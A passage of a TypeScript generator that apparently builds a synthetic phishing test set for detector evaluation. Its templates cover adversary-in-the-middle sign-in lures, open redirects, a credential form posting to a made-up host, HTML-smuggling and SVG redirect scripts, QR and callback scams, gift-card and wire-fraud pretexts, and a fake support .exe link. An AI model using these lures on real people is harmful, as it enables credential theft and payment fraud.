// The third unseen phishing set: phishing, business-email compromise and fraud after 2023–2026 campaigns,
// written from published descriptions of them without the analysers in sight, every message filled from
// the seed (people, brands, domains, amounts, wording, language). It also holds the scene the third unseen
// ham set (unseen-ham-3.ts) is filled from. Every domain is reserved or made up; attachments are inert.
import type { SeededRandom } from './generate.js';
import { type Draft, mimeMessage } from './mime.js';
import { diskImage, legacyMacroDocument, macroWorkbook, qrJpeg, qrPng, zipOf } from './payloads.js';
import { invitation, onePagePdf, protectedZip } from './unseen-payloads.js';

export interface Person {
  first: string;
  last: string;
  name: string;
  email: string;
}

/** A message before it is numbered: what a template writes. */
export type Letter = Omit<Draft, 'number'>;
export type Template = (s: Scene) => Letter | Promise<Letter>;
export interface Entry {
  kind: string;
  template: string;
  write: Template;
}
export interface UnseenMessage {
  raw: string;
  kind: string;
  template: string;
}

const FIRST =
  'Amelia Jonas Priya Mateo Sofia Daniel Hannah Kenji Fatima Lukas Chloe Omar Ingrid Rafael Mei Tomasz Aisha Elliot Nora Diego'.split(
    ' ',
  );
const LAST =
  'Whitford Brandt Raman Alvarez Rossi Okafor Lindqvist Tanaka Haddad Novak Dubois Mensah Kowalski Fernandes Chen Hughes Bakker Moreau Ivanova Keller'.split(
    ' ',
  );
const COMPANIES = [
  'Halvern Group',
  'Corvane Logistics',
  'Brightmoor Health',
  'Eastvale Partners',
  'Tidewater Mfg',
];
const VENDORS = [
  ['Northwind Supply', 'northwind-supply.example'],
  ['Kestrel Packaging', 'kestrelpack.example'],
  ['Bluefin Freight', 'bluefin-freight.example'],
  ['Marlow & Pike Consulting', 'marlowpike.example'],
  ['Ostara Components', 'ostara-components.example'],
] as const;
const FREEMAIL = ['gmail.example', 'outlook.example', 'proton.example', 'yahoo.example', 'gmx.example'];
/** Small businesses whose sites or mailboxes campaigns borrow. */
const BORROWED =
  'lakeside-dental.example kovacs-bakery.example rivera-roofing.example alpine-yoga.example meadowbrook-vets.example harbor-florist.example sunhill-realty.example pinecrest-auto.example'.split(
    ' ',
  );
const WORDS = 'secure verify account portal auth session docs cloud access online'.split(' ');
const STREETS = [
  'Maple Avenue',
  'Station Road',
  'Kingfisher Lane',
  'Harbour Street',
  'Elm Court',
  'Mill Road',
];

/** What a template fills a message from: the people, the company, and random details. */
export interface Scene {
  pick<T>(list: readonly T[]): T;
  below(n: number): number;
  victim: Person;
  boss: Person;
  colleague: Person;
  /** An outsider: a vendor's contact, a recruiter, a sender at another firm. */
  stranger: Person;
  company: string;
  vendor: { name: string; domain: string };
  /** Random digits, letters and digits, or hex of this length. */
  digits(n: number): string;
  token(n: number): string;
  hex(n: number): string;
  /** An amount between lo and hi, two decimals, thousands grouped: "4,862.40". */
  money(lo: number, hi: number): string;
  /** A fictional phone number (US 555-01xx or UK 020 7946 0xxx). */
  phone(): string;
  /** A made-up attacker domain under .test, built from the words given and the scene's own. */
  host(...words: string[]): string;
  /** A small business's domain, as a borrowed sender or a site hosting a page. */
  borrowed(): string;
  freemail(p: Person): string;
  street(): string;
  /** A bech32-shaped Bitcoin address and a hex Ethereum one, made up. */
  btc(): string;
  eth(): string;
  /** A From (or Reply-To) header value, the display name encoded when it is not ASCII. */
  address(name: string, email: string): string;
  /** From and To: the header lines every message opens with, To being the victim unless given. */
  headers(fromName: string, fromEmail: string, more?: string[]): string[];
}

const encoded = (t: string) =>
  /^[\x20-\x7e]*$/.test(t) ? t : `=?UTF-8?B?${Buffer.from(t).toString('base64')}?=`;

function person(first: string, last: string): Person {
  return { first, last, name: `${first} ${last}`, email: `${first}.${last}@corp.example`.toLowerCase() };
}

export function scene(r: SeededRandom): Scene {
  const pick = <T>(list: readonly T[]) => r.pick(list);
  const below = (n: number) => r.below(n);
  const people: Person[] = [];
  while (people.length < 4) {
    const first = pick(FIRST);
    const last = pick(LAST);
    if (!people.some((p) => p.first === first || p.last === last)) people.push(person(first, last));
  }
  const [victim, boss, colleague, stranger] = people;
  const [vendorName, vendorDomain] = pick(VENDORS);
  const from = (alphabet: string) => (n: number) =>
    Array.from({ length: n }, () => alphabet[below(alphabet.length)]).join('');
  const digits = from('0123456789');
  const token = from('abcdefghijklmnopqrstuvwxyz0123456789');
  const hex = from('0123456789abcdef');
  const address = (name: string, email: string) =>
    `${/^[\x20-\x7e]*$/.test(name) ? `"${name}"` : encoded(name)} <${email}>`;
  return {
    pick,
    below,
    victim,
    boss,
    colleague,
    stranger: { ...stranger, email: `${stranger.first}.${stranger.last}@${vendorDomain}`.toLowerCase() },
    company: pick(COMPANIES),
    vendor: { name: vendorName, domain: vendorDomain },
    digits,
    token,
    hex,
    money: (lo, hi) =>
      (lo + below(Math.round((hi - lo) * 100)) / 100).toLocaleString('en-US', {
        minimumFractionDigits: 2,
        maximumFractionDigits: 2,
      }),
    phone: () => (below(2) === 0 ? `+1 (8${digits(2)}) 555-01${digits(2)}` : `+44 20 7946 0${digits(3)}`),
    host: (...words) =>
      `${[...words, pick(WORDS)].join('-')}${below(2) === 0 ? `-${token(4)}` : ''}.${pick(['test', 'test', 'example.net'])}`,
    borrowed: () => pick(BORROWED),
    freemail: (p) => `${p.first}.${p.last}${digits(2)}@${pick(FREEMAIL)}`.toLowerCase(),
    street: () => `${10 + below(180)} ${pick(STREETS)}`,
    btc: () => `bc1q${from('023456789acdefghjklmnpqrstuvwxyz')(38)}`,
    eth: () => `0x${hex(40)}`,
    address,
    headers: (fromName, fromEmail, more = []) => [
      `From: ${address(fromName, fromEmail)}`,
      ...(more.some((h) => /^To:/i.test(h)) ? [] : [`To: ${address(victim.name, victim.email)}`]),
      ...more,
    ],
  };
}

/** An email subject, encoded when it is not ASCII. */
export const subjectLine = encoded;

/** A plain HTML body: paragraphs (already HTML), an optional button, an optional small-print footer. */
export function page(paragraphs: readonly string[], button?: [string, string], footer?: string): string {
  return [
    '<html><body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#222">',
    ...paragraphs.map((p) => `<p>${p}</p>`),
    button
      ? `<p><a href="${button[1]}" style="background:#0b5cad;color:#fff;padding:10px 18px;text-decoration:none;border-radius:3px">${button[0]}</a></p>`
      : '',
    footer ? `<p style="font-size:11px;color:#777">${footer}</p>` : '',
    '</body></html>',
  ].join('\n');
}

/** Every entry filled `perTemplate` times, each template from its own stream of the seed. */
export async function fill(
  entries: readonly Entry[],
  perTemplate: number,
  seed: number,
  seededRandom: (seed: number) => SeededRandom,
  firstNumber: number,
): Promise<UnseenMessage[]> {
  const out: UnseenMessage[] = [];
  for (const [index, entry] of entries.entries()) {
    const r = seededRandom(seed * 7919 + index);
    for (let copy = 0; copy < perTemplate; copy++) {
      const letter = await entry.write(scene(r));
      const number = firstNumber + out.length;
      out.push({
        raw: mimeMessage({ ...letter, subject: subjectLine(letter.subject), number }),
        kind: entry.kind,
        template: entry.template,
      });
    }
  }
  return out;
}

const b64url = (t: string) => Buffer.from(t).toString('base64url');
const file = (type: string, name: string, content: Buffer) => ({ type, name, content });
const html = (name: string, content: string) => file('text/html', name, Buffer.from(content));
const pdf = (name: string, lines: readonly string[], extra?: Parameters<typeof onePagePdf>[1]) =>
  file('application/pdf', name, onePagePdf(lines, extra));

const M365 = 'Microsoft 365';

const ENTRIES: Entry[] = [
  // Adversary-in-the-middle sign-in pages (EvilProxy, Tycoon 2FA, Mamba 2FA): a proxy of the real page.
  {
    kind: 'aitm-signin',
    template: 'password-expiry-keep-current',
    write: (s) => {
      const link = `https://login-microsoftonline-com.${s.host('sso')}/common/oauth2/v2.0/authorize?client_id=${s.hex(8)}&login_hint=${s.victim.email}&sso_reload=true`;
      return {
        headers: s.headers(`${M365} Admin`, `notice@${s.borrowed()}`),
        subject: s.pick([
          `Password expiry notice for ${s.victim.email}`,
          `Your password expires in 24 hours`,
          `[Action Required] ${s.victim.email} password expiry`,
        ]),
        html: page(
          [
            `The password for your account <b>${s.victim.email}</b> expires today, ${s.pick(['2 November 2026', '11/02/2026'])}.`,
            'You can keep your current password by confirming it below. If no action is taken, you will be signed out of Outlook, Teams and OneDrive on all devices.',
          ],
          ['Keep current password', link],
          `This is an automated message from the ${s.company} Microsoft 365 tenant. Do not reply.`,
        ),
      };
    },
  },
  {
    kind: 'aitm-signin',
    template: 'sso-reverify-vpn-policy',
    write: (s) => {
      const tenant = s.company.toLowerCase().replace(/[^a-z]/g, '');
      return {
        headers: s.headers(
          `${s.company} IT Security`,
          `it-security@${tenant}-okta.${s.pick(['test', 'example.net'])}`,
        ),
        subject: s.pick([
          'Re-verify your SSO session before the VPN policy change',
          'Action needed: new remote access policy takes effect Wednesday',
        ]),
        text: [
          `Hi ${s.victim.first},`,
          '',
          'As announced in the last all-hands, remote access moves to the new conditional access policy on Wednesday 4 November.',
          'To keep your VPN and single sign-on working, re-verify your session (about one minute):',
          '',
          `https://${tenant}.okta-${s.token(5)}.test/app/UserHome?fromLogin=true&session=${s.token(24)}`,
          '',
          'Sessions that are not re-verified will need a help desk ticket to restore.',
          '',
          `${s.company} IT Security`,
        ].join('\n'),
      };
    },
  },
  {
    kind: 'aitm-signin',
    template: 'teams-unread-messages',
    write: (s) => {
      const count = 2 + s.below(6);
      return {
        headers: s.headers('Microsoft Teams', `noreply@teams-mail.${s.host('notify')}`),
        subject: `You have ${count} unread messages from ${s.boss.name}`,
        html: page(
          [
            `<b>${s.boss.name}</b> sent messages in a chat while you were away.`,
            `<i>"${s.pick(['Can you look at this before the 3pm call?', 'Need your input on the figures', 'Quick question about the client file'])}"</i>`,
          ],
          [
            'Reply in Teams',
            `https://teams.${s.host('microsoft')}/l/chat/19:${s.hex(32)}@thread.v2?email=${b64url(s.victim.email)}`,
          ],
          'You are receiving this because you have missed activity notifications turned on. Microsoft Corporation, One Microsoft Way, Redmond, WA.',
        ),
      };
    },
  },
  // Open redirects on trusted hosts: search-engine click tracking, ad servers, AMP caches.
  {
    kind: 'open-redirect',
    template: 'search-click-tracking',
    write: (s) => {
      const target = `https://${s.host('docs')}/view/?u=${b64url(s.victim.email)}`;
      const link = `https://www.bing.example/ck/a?!&&p=${s.hex(48)}&ptn=3&ver=2&hsh=3&fclid=${s.hex(8)}&u=a1${b64url(target)}&ntb=1`;
      return {
        headers: s.headers(`${s.stranger.name} via Adobe Acrobat Sign`, `echosign@${s.borrowed()}`),
        subject: s.pick([
          'Signature requested on "Services Agreement 2027"',
          `${s.vendor.name}: amended terms for review`,
        ]),
        html: page(
          [
            `${s.stranger.name} (${s.vendor.name}) has sent you a document to review and sign.`,
            'The request expires in 2 days.',
          ],
          ['Review and sign', link],
        ),
      };
    },
  },
  {
    kind: 'open-redirect',
    template: 'ad-server-click',
    write: (s) => {
      const target = `https://${s.host('payment')}/confirm#${b64url(s.victim.email)}`;
      return {
        headers: s.headers('Payments Team', `payments@${s.borrowed()}`),
        subject: `Payment confirmation ${s.digits(7)} – ${s.money(900, 9000)} USD`,
        text: [
          'Hello,',
          '',
          `A payment of USD ${s.money(900, 9000)} was released to your company today. Remittance details:`,
          `https://adclick.g.doubleclick.example/pcs/click?xai=${s.token(40)}&sig=${s.token(20)}&adurl=${encodeURIComponent(target)}`,
          '',
          'Regards',
        ].join('\n'),
      };
    },
  },
  {
    kind: 'open-redirect',
    template: 'amp-cache-link',
    write: (s) => {
      const host = s.host('voice');
      return {
        headers: s.headers(`${s.company} Fax/Voice`, `voice@${s.borrowed()}`),
        subject: `${s.pick(['Voice message', 'Audio message', 'VM'])} received for ${s.victim.first} - ${s.digits(2)}s`,
        html: page(
          [`Caller: ${s.phone()}`, `Duration: 00:${s.digits(2).replace(/^[6-9]/, '4')}`],
          [
            'Listen',
            `https://www.google.example/amp/s/${host}/vm/${s.token(12)}?e=${b64url(s.victim.email)}`,
          ],
        ),
      };
    },
  },
  // Pages on cloud hosting and form builders, which inherit the host's good name.
  {
    kind: 'cloud-hosted-page',
    template: 'form-builder-quota',
    write: (s) => ({
      headers: s.headers('Email Administrator', `admin@${s.borrowed()}`),
      subject: s.pick([
        'Email account upgrade',
        'Mailbox verification required',
        'Webmail: confirm your account',
      ]),
      text: [
        `Dear ${s.victim.email},`,
        '',
        'Your mailbox has not been verified for the 2027 upgrade and will stop receiving mail after 48 hours.',
        `Verify here: https://forms.office.example/Pages/ResponsePage.aspx?id=${s.token(48)}`,
        '',
        'Thank you,',
        'Webmail Support',
      ].join('\n'),
    }),
  },
  {
    kind: 'cloud-hosted-page',
    template: 'ipfs-webmail',
    write: (s) => ({
      headers: s.headers(`${s.company} Mail`, `mailer-daemon@${s.borrowed()}`),
      subject: `${s.victim.email}: sign in to keep your account active`,
      html: page(
        [
          'We noticed you have not signed in to webmail recently.',
          'Inactive accounts are closed after 30 days.',
        ],
        ['Stay signed in', `https://bafybei${s.token(52)}.ipfs.dweb.example/#${s.victim.email}`],
      ),
    }),
  },
  {
    kind: 'cloud-hosted-page',
    template: 'storage-bucket-document',
    write: (s) => ({
      headers: s.headers(s.stranger.name, s.stranger.email),
      subject: s.pick([
        `${s.vendor.name} – statement of account`,
        'Shared: Q4 statement',
        'Please review: revised quote',
      ]),
      text: [
        `Hi ${s.victim.first},`,
        '',
        'Please find our latest statement at the link below (too large to attach).',
        `https://storage.googleapis.example/${s.token(10)}/index.html#${s.victim.email}`,
        '',
        'Kind regards,',
        s.stranger.name,
        s.vendor.name,
      ].join('\n'),
    }),
  },
  // HTML attachments: a local credential form, or a page that smuggles a file in script.
  {
    kind: 'html-attachment',
    template: 'remittance-login-form',
    write: (s) => {
      const action = `https://${s.host('remit')}/next.php`;
      return {
        headers: s.headers(`${s.vendor.name} Accounts`, `accounts@${s.borrowed()}`),
        subject: `Remittance advice ${s.digits(6)}`,
        text: 'Please see the attached remittance advice.\n\nAccounts Receivable',
        parts: [
          html(
            `Remittance_Advice_${s.digits(6)}.html`,
            `<html><head><title>Excel Online</title></head><body><h3>Sign in to view the document</h3><form method="post" action="${action}"><input name="login" value="${s.victim.email}"><input type="password" name="passwd" placeholder="Password"><button>View document</button></form></body></html>`,
          ),
        ],
      };
    },
  },
  {
    kind: 'html-attachment',
    template: 'html-smuggled-archive',
    write: (s) => {
      const name = `Invoice_${s.digits(5)}`;
      const payload = Buffer.from(`${name}.js: inert stand-in`).toString('base64');
      return {
        headers: s.headers(s.stranger.name, `${s.stranger.first.toLowerCase()}@${s.borrowed()}`),
        subject: s.pick([`Invoice ${s.digits(5)}`, 'Outstanding balance', 'RE: invoice copy']),
        text: `Hello,\n\nInvoice attached, please open it in your browser.\n\n${s.stranger.name}`,
        parts: [
          html(
            `${name}.htm`,
            `<html><body><p>Downloading ${name}.zip…</p><script>var d='${payload}';var a=document.createElement('a');a.download='${name}.zip';a.href='data:application/zip;base64,'+d;document.body.appendChild(a);a.click();</script></body></html>`,
          ),
        ],
      };
    },
  },
  // SVG attachments: an image that is a link, or a script that redirects.
  {
    kind: 'svg-attachment',
    template: 'svg-play-button',
    write: (s) => {
      const link = `https://${s.host('audio')}/play?id=${s.token(16)}`;
      return {
        headers: s.headers('Voice Services', `voicemail@${s.borrowed()}`),
        subject: `New voice message from ${s.phone()}`,
        text: 'You have a new voice message. Open the attachment to play it.',
        parts: [
          file(
            'image/svg+xml',
            `VM_${s.digits(8)}.svg`,
            Buffer.from(
              `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="320" height="80"><a xlink:href="${link}"><rect width="320" height="80" fill="#1a73e8"/><text x="20" y="48" fill="#fff" font-size="20">&#9654; Play message (0:${20 + s.below(39)})</text></a></svg>`,
            ),
          ),
        ],
      };
    },
  },
  {
    kind: 'svg-attachment',
    template: 'svg-script-redirect',
    write: (s) => {
      const target = Buffer.from(`https://${s.host('view')}/o/?`).toString('base64');
      return {
        headers: s.headers(`${s.company} Payroll`, `payroll@${s.borrowed()}`),
        subject: s.pick(['Payment advice', 'Your payslip is ready', 'Salary statement November']),
        text: 'See attached.',
        parts: [
          file(
            'image/svg+xml',
            `Payment_${s.victim.last}.svg`,
            Buffer.from(
              `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[window.location.href=atob('${target}')+'${b64url(s.victim.email)}';]]></script></svg>`,
            ),
          ),
        ],
      };
    },
  },
  // PDFs: a link in the page, the message itself saying little.
  {
    kind: 'pdf-attachment',
    template: 'pdf-invoice-link',
    write: (s) => {
      const number = `INV-${s.digits(6)}`;
      return {
        headers: s.headers(
          `${s.vendor.name} Billing`,
          `billing@${s.host(s.vendor.name.split(' ')[0].toLowerCase())}`,
        ),
        subject: `${number} from ${s.vendor.name}`,
        text: `Dear customer,\n\nPlease find invoice ${number} attached.\n\nBest regards\n${s.vendor.name}`,
        parts: [
          pdf(
            `${number}.pdf`,
            [
              `${s.vendor.name}`,
              `Invoice ${number}`,
              `Amount due: USD ${s.money(1200, 24000)}`,
              'View secure invoice online',
            ],
            {
              link: `https://${s.host('invoice')}/view/${s.token(10)}`,
            },
          ),
        ],
      };
    },
  },
  {
    kind: 'pdf-attachment',
    template: 'pdf-protected-document',
    write: (s) => ({
      headers: s.headers(s.stranger.name, s.stranger.email),
      subject: s.pick(['Proposal', 'Signed agreement', 'Project documents', 'Purchase order']),
      text: `Hi,\n\nAttached as discussed.\n\n${s.stranger.first}`,
      parts: [
        pdf(
          `${s.pick(['Proposal', 'Agreement', 'PO'])}_${s.digits(4)}.pdf`,
          [
            'This document is protected.',
            'Sign in with your work account to view the content.',
            'Open document',
          ],
          { link: `https://${s.host('sharepoint')}/sites/${s.token(8)}/doc.aspx` },
        ),
      ],
    }),
  },
  // Archives: password-protected so no filter can look inside, shortcuts, disk images.
  {
    kind: 'archive-attachment',
    template: 'password-zip',
    write: (s) => {
      const password = s.digits(4);
      const name = `${s.pick(['Invoice', 'Scan', 'Documents', 'Order'])}_${s.digits(6)}`;
      return {
        headers: s.headers(s.stranger.name, `${s.stranger.first.toLowerCase()}@${s.borrowed()}`),
        subject: s.pick([`${name}`, 'Documents as requested', 'Re: order documents']),
        text: `Good morning,\n\nThe archive is password protected for privacy.\nPassword: ${password}\n\nThanks`,
        parts: [file('application/zip', `${name}.zip`, protectedZip(`${name}.js`, Number(password)))],
      };
    },
  },
  {
    kind: 'archive-attachment',
    template: 'zip-shortcut',
    write: (s) => {
      const name = `${s.pick(['Payment_Confirmation', 'Remittance', 'Bank_Transfer'])}_${s.digits(5)}`;
      return {
        headers: s.headers('Accounts Payable', `ap@${s.borrowed()}`),
        subject: `${name.replace(/_/g, ' ')}`,
        text: 'Hello,\n\nPlease find the payment confirmation attached.\n\nRegards,\nAccounts Payable',
        parts: [file('application/zip', `${name}.zip`, zipOf(`${name}.pdf.lnk`))],
      };
    },
  },
  {
    kind: 'archive-attachment',
    template: 'disk-image-shipping',
    write: (s) => ({
      headers: s.headers(`${s.vendor.name} Logistics`, `logistics@${s.host('freight')}`),
      subject: `Shipping documents – BL ${s.digits(9)}`,
      text: 'Dear Sir/Madam,\n\nKindly find the shipping documents (BL, packing list, invoice) attached.\n\nBest regards',
      parts: [file('application/octet-stream', `Shipping_Documents_${s.digits(4)}.img`, diskImage())],
    }),
  },
  // QR codes: the link in an image, out of reach of link checks, scanned on a phone.
  {
    kind: 'qr-code',
    template: 'authenticator-reenrol-inline',
    write: async (s) => ({
      headers: s.headers(`${s.company} Security`, `security@${s.host('mfa')}`),
      subject: s.pick([
        'Action required: re-register Microsoft Authenticator',
        'MFA re-enrolment due by 4 November',
      ]),
      html: page([
        `Hi ${s.victim.first},`,
        'Your multi-factor authentication registration expires this week. Scan the code below with your phone camera to re-register.',
        '<img src="cid:mfa.png" alt="QR code" width="240" height="240">',
        'Failure to re-register will block sign-in from Wednesday.',
      ]),
      parts: [
        {
          type: 'image/png',
          name: 'mfa.png',
          content: await qrPng(`https://${s.host('mfa')}/enrol?u=${b64url(s.victim.email)}`),
          inline: true,
        },
      ],
    }),
  },
  {
    kind: 'qr-code',
    template: 'pdf-bonus-statement-qr',
    write: async (s) => ({
      headers: s.headers(`${s.company} Human Resources`, `hr@${s.borrowed()}`),
      subject: s.pick([
        'Q4 bonus statement',
        '2027 salary adjustment – confidential',
        'Your compensation letter',
      ]),
      text: `${s.victim.first},\n\nYour statement is attached. For security it can only be opened on a mobile device.\n\nHR`,
      parts: [
        pdf(
          `Statement_${s.victim.last}.pdf`,
          ['Compensation statement 2027', 'Scan the code with your phone to view'],
          {
            jpeg: await qrJpeg(`https://${s.host('hr')}/s/${s.token(10)}`),
          },
        ),
      ],
    }),
  },
  {
    kind: 'qr-code',
    template: 'signature-qr-image',
    write: async (s) => ({
      headers: s.headers('DocuSign', `dse@${s.host('docusign')}`),
      subject: `${s.stranger.name} sent you a document to review and sign`,
      text: 'Scan the attached code to review and sign the document on your phone.',
      parts: [
        {
          type: 'image/jpeg',
          name: 'Review.jpg',
          content: await qrJpeg(`https://${s.host('esign')}/d/${s.token(12)}`),
        },
      ],
    }),
  },
  // Callback phishing (BazarCall and its heirs): a phone number, no link, no attachment to scan.
  {
    kind: 'callback',
    template: 'subscription-renewal',
    write: (s) => {
      const brand = s.pick(['Geek Squad', 'Norton 360', 'McAfee Total Protection', 'PC Care Plus']);
      const phone = s.phone();
      return {
        headers: s.headers(`${brand} Billing`, s.freemail(s.stranger)),
        subject: `Your ${brand} subscription has been renewed – Order #${s.digits(9)}`,
        text: [
          `Dear ${s.pick(['Customer', s.victim.first, 'Member'])},`,
          '',
          `Thank you for renewing ${brand}. Your account has been charged USD ${s.money(289, 499)} for 3 years of protection.`,
          `Transaction ID: ${s.token(12).toUpperCase()}`,
          '',
          `If you did not authorise this renewal, call our billing desk within 24 hours to cancel and get a refund: ${phone}`,
          '',
          'Billing Department',
        ].join('\n'),
      };
    },
  },
  {
    kind: 'callback',
    template: 'payment-platform-invoice-note',
    write: (s) => {
      const phone = s.phone();
      return {
        headers: s.headers('PayPal', 'service@paypal.example'),
        subject: `You've got an invoice from ${s.pick(['Billing Department', 'Coinbase Support', 'Secure Payments'])}`,
        html: page(
          [
            `Invoice amount: <b>$${s.money(499, 999)} USD</b>`,
            `Note from seller: We detected a purchase of Bitcoin on your account. If you did not make this purchase call us at ${phone} to cancel and get a refund within 24 hrs.`,
          ],
          ['View and Pay Invoice', `https://www.paypal.example/invoice/p/#${s.token(16).toUpperCase()}`],
          'PayPal is committed to your privacy.',
        ),
      };
    },
  },
  {
    kind: 'callback',
    template: 'pdf-order-receipt',
    write: (s) => {
      const phone = s.phone();
      return {
        headers: s.headers(s.stranger.name, s.freemail(s.stranger)),
        subject: s.pick(['Order receipt', `Invoice #${s.digits(8)}`, 'Your purchase has been confirmed']),
        text: 'Thank you for your order. Receipt attached.',
        parts: [
          pdf(`Receipt_${s.digits(6)}.pdf`, [
            `Order ${s.digits(10)}: Apple MacBook Pro 16" – USD ${s.money(2400, 3600)}`,
            'Payment method: card on file. Delivery in 3 business days.',
            `To cancel or dispute this order call ${phone}`,
          ]),
        ],
      };
    },
  },
  // Business-email compromise: a boss's name, a free-mail address, urgency, gift cards.
  {
    kind: 'bec-gift-card',
    template: 'are-you-available',
    write: (s) => ({
      headers: s.headers(s.boss.name, s.freemail(s.boss)),
      subject: s.pick(['Quick favour', 'Are you available?', 'Request', s.boss.first]),
      text: `${s.pick(['Hi', 'Hello', 'Hey'])} ${s.victim.first},\n\n${s.pick([
        'Are you at your desk? I need you to handle something for me discreetly.',
        "I'm in a meeting and can't talk. Let me know when you get this, I have a task for you.",
        'Send me your WhatsApp number, I need something done quickly.',
      ])}\n\n${s.boss.first}\n\nSent from my iPhone`,
    }),
  },
  {
    kind: 'bec-gift-card',
    template: 'gift-cards-for-clients',
    write: (s) => {
      const count = 4 + s.below(7);
      const value = s.pick([100, 200, 250, 500]);
      return {
        headers: s.headers(
          s.boss.name,
          `${s.boss.first.toLowerCase()}.ceo@${s.pick(['outlook.example', 'corp-example.test'])}`,
          [`Reply-To: ${s.freemail(s.boss)}`],
        ),
        subject: s.pick(['Client appreciation', 'Gift cards', 'Urgent task']),
        text: [
          `${s.victim.first},`,
          '',
          `I need you to get ${count} ${s.pick(['Apple', 'Google Play', 'Amazon', 'Visa'])} gift cards of $${value} each for some of our clients. It's a surprise so keep it between us.`,
          'Scratch the back, take a clear picture of each card and email them to me by 2pm. You will be reimbursed today.',
          '',
          'Thanks,',
          s.boss.first,
        ].join('\n'),
      };
    },
  },
  // Payment diversion: an employee's direct deposit, a supplier's bank, a property deal's wire.
  {
    kind: 'payment-diversion',
    template: 'employee-direct-deposit',
    write: (s) => ({
      headers: s.headers(s.colleague.name, s.freemail(s.colleague), ['To: payroll@corp.example']),
      subject: s.pick(['Direct deposit change', 'Update my bank details', 'Payroll account update']),
      text: `Hi,\n\nI have changed banks and would like my salary paid into the new account from the next payroll on 13 November. What details do you need from me? Please let me know if a form is required.\n\nThanks,\n${s.colleague.first}`,
    }),
  },
  {
    kind: 'payment-diversion',
    template: 'vendor-new-bank-letter',
    write: (s) => {
      const lookalike = s.vendor.domain.replace(
        '.example',
        s.pick(['-payments.test', '-uk.test', 'ltd.test']),
      );
      const iban = `GB${s.digits(2)} ${s.pick(['MIDL', 'LOYD', 'BARC'])} ${s.digits(4)} ${s.digits(4)} ${s.digits(4)} ${s.digits(2)}`;
      return {
        headers: s.headers(
          s.stranger.name,
          `${s.stranger.first}.${s.stranger.last}@${lookalike}`.toLowerCase(),
        ),
        subject: `${s.vendor.name} – change of bank details`,
        text: [
          `Dear ${s.victim.first},`,
          '',
          'Following our annual audit we have moved our accounts to a new bank. Please update our remittance details before paying the open invoices (letter on letterhead attached).',
          `New account: ${iban}`,
          'Please confirm once updated. Our old account will no longer accept payments.',
          '',
          `${s.stranger.name}`,
          `Finance, ${s.vendor.name}`,
        ].join('\n'),
        parts: [
          pdf('Bank_Change_Letter.pdf', [
            s.vendor.name,
            'Notice of change of bank details',
            `New IBAN: ${iban}`,
          ]),
        ],
      };
    },
  },
  {
    kind: 'payment-diversion',
    template: 'closing-wire-instructions',
    write: (s) => ({
      headers: s.headers(
        `${s.stranger.name} | Title & Escrow`,
        `${s.stranger.first.toLowerCase()}@${s.host('title', 'escrow')}`,
      ),
      subject: `Updated wire instructions – closing ${s.street()}`,
      text: [
        `Hi ${s.victim.first},`,
        '',
        'Our bank has asked us to use our secondary escrow account for closings this week. Please use the instructions below for your down payment of $' +
          `${s.money(40000, 160000)} and do not call the office, we are working remotely today.`,
        `Routing: 0${s.digits(8)}  Account: ${s.digits(10)}`,
        '',
        'Thank you',
      ].join('\n'),
    }),
  },
  // Reply-chain hijack: a real thread from a compromised mailbox, a short new top.
  {
    kind: 'reply-chain-hijack',
    template: 'thread-with-link',
    write: (s) => {
      const po = s.digits(5);
      return {
        headers: s.headers(s.stranger.name, s.stranger.email, [`In-Reply-To: <${s.hex(16)}@corp.example>`]),
        subject: `RE: PO ${po} – delivery schedule`,
        text: [
          `Hi ${s.victim.first},`,
          '',
          `Please review the updated schedule here: https://${s.host('onedrive')}/personal/${s.stranger.first.toLowerCase()}/doc?id=${s.token(10)}`,
          '',
          'Thanks',
          '',
          `From: ${s.victim.name} <${s.victim.email}>`,
          'Sent: Thursday, 29 October 2026 16:12',
          `Subject: RE: PO ${po} – delivery schedule`,
          '',
          `Thanks ${s.stranger.first}, can you confirm the first pallets ship before the 15th?`,
          '',
          `From: ${s.stranger.name} <${s.stranger.email}>`,
          'Sent: Thursday, 29 October 2026 11:40',
          '',
          `Hello ${s.victim.first}, the order is confirmed; we will send the split delivery plan next week.`,
        ].join('\n'),
      };
    },
  },
  {
    kind: 'reply-chain-hijack',
    template: 'thread-with-protected-zip',
    write: (s) => {
      const password = s.token(3).toUpperCase() + s.digits(2);
      return {
        headers: s.headers(s.colleague.name, `${s.colleague.first.toLowerCase()}@${s.borrowed()}`),
        subject: `Re: ${s.pick(['October reconciliation', 'Audit follow-up', 'Budget figures'])}`,
        text: [
          'Please see the attached file and confirm.',
          `File password: ${password}`,
          '',
          `> On Tue, 27 Oct 2026, ${s.victim.name} wrote:`,
          '> Could you send the final numbers when you have them? I need them for Friday.',
        ].join('\n'),
        parts: [
          file('application/zip', `Docs_${s.digits(4)}.zip`, protectedZip(`Docs_${s.digits(4)}.xlsm`, 7)),
        ],
      };
    },
  },
  // Help desk impersonation, including the email-bombing-then-support-call playbook of 2024–2025.
  {
    kind: 'helpdesk-impersonation',
    template: 'mailbox-migration',
    write: (s) => ({
      headers: s.headers('IT Service Desk', `servicedesk@${s.host('corp', 'helpdesk')}`),
      subject: s.pick([
        `Ticket INC${s.digits(7)}: mailbox migration scheduled`,
        'Mandatory: Exchange Online migration tonight',
      ]),
      html: page(
        [
          `Hello ${s.victim.first},`,
          'Your mailbox is scheduled for migration to the new Exchange Online cluster tonight at 22:00.',
          'To avoid losing mail, validate your account before 17:00 today.',
        ],
        ['Validate account', `https://${s.host('exchange', 'migration')}/owa/?user=${s.victim.email}`],
        `${s.company} IT Service Desk – ext. 4400`,
      ),
    }),
  },
  {
    kind: 'helpdesk-impersonation',
    template: 'spam-flood-support-session',
    write: (s) => {
      const code = s.digits(6);
      return {
        headers: s.headers(
          `Help Desk – ${s.company}`,
          s.freemail({ ...s.stranger, first: 'helpdesk', last: 'support' }),
        ),
        subject: s.pick(['Re: spam attack on your mailbox', 'Your spam issue – support session']),
        text: [
          `Hi ${s.victim.first},`,
          '',
          'We have seen the flood of spam hitting your mailbox this morning and are blocking it at the gateway.',
          `A technician will message you on Teams in a few minutes. To speed things up, open the support tool and enter code ${code}:`,
          `https://${s.host('quick', 'support')}/download/support-${code}.exe`,
          '',
          'Help Desk',
        ].join('\n'),
      };
    },
  },
  // HR notices: policy acknowledgements, pay reviews, benefits.
  {
    kind: 'hr-notice',
    template: 'handbook-acknowledgement',
    write: (s) => ({
      headers: s.headers(
